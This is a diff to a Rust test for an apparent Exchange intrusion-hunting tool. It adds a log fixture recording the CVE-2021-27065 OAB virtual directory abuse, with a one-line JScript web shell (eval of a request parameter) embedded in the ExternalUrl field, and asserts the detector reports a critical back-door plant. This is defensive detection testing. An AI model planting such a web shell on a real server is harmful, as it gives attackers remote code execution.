@@ -47,6 +47,26 @@ fn nxlog(record: u64) -> String {
     .to_string()
 }
 
+/// MSExchange Management event 1: the CVE-2021-27065 plant, as Winlogbeat ships unnamed Data items (`param1..N`).
+fn oab_plant() -> String {
+    serde_json::json!({
+        "@timestamp": "2021-03-03T09:58:00.000Z",
+        "winlog": {
+            "event_id": 1,
+            "channel": "MSExchange Management",
+            "provider_name": "MSExchange CmdletLogs",
+            "computer_name": "ex01.contoso.test",
+            "record_id": 77,
+            "event_data": {
+                "param1": "Set-OabVirtualDirectory",
+                "param2": "-ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>' -Identity 'EX01\\OAB (Default Web Site)'",
+                "param3": "NT AUTHORITY\\SYSTEM"
+            }
+        }
+    })
+    .to_string()
+}
+
 fn write(dir: &Path, rel: &str, lines: &[String]) {
     let p = dir.join(rel);
     std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
@@ -63,6 +83,7 @@ fn exports_are_hunted_capped_and_told() {
         write(&root, &format!("SIEM/winlogbeat-{f}.ndjson"), &lines);
     }
     write(&root, "SIEM/nxlog.json", &(1..=3).map(nxlog).collect::<Vec<_>>());
+    write(&root, "SIEM/exchange.jsonl", &[oab_plant()]);
 
     let kb = Kb::builtin();
     let (engines, _) = Engines::new(&kb);
@@ -89,10 +110,16 @@ fn exports_are_hunted_capped_and_told() {
     }
     // Coverage: one export source, the channel, records counted, the key channels that are missing named.
     let ev = r.report.coverage.iter().find(|c| c.source == "event-logs").expect("coverage");
-    assert_eq!((ev.files, ev.records), (6, 503));
+    assert_eq!((ev.files, ev.records), (7, 504));
     assert!(ev.note.as_deref().is_some_and(|n| n.contains("no Security log")), "{:?}", ev.note);
-    // Commands under the web server: the shell was used.
+    // The plant, read from the unnamed Data items through `_raw` like every reader gives it.
+    let plant = r.findings.iter().find(|f| f.rule == "EXH-LOG-0024").expect("the OAB plant is found");
+    assert_eq!(plant.severity, exhunt_model::Severity::Critical);
+    assert_eq!(plant.details["source"], "exchange-management");
+    // The story: the back door planted, then commands under the web server: used.
     let inc = r.incident.as_ref().expect("incident");
-    assert!(inc.stages.contains(&Stage::Execution), "{:?}", inc.stages);
+    assert_eq!(inc.stages, [Stage::Plant, Stage::Execution], "{:?}", inc.steps);
+    assert_eq!(inc.steps[0].stage, Stage::Plant, "the plant comes first in time");
+    assert!(inc.used);
     assert_eq!(r.report.verdict, HostVerdict::BackdoorUsed);
 }
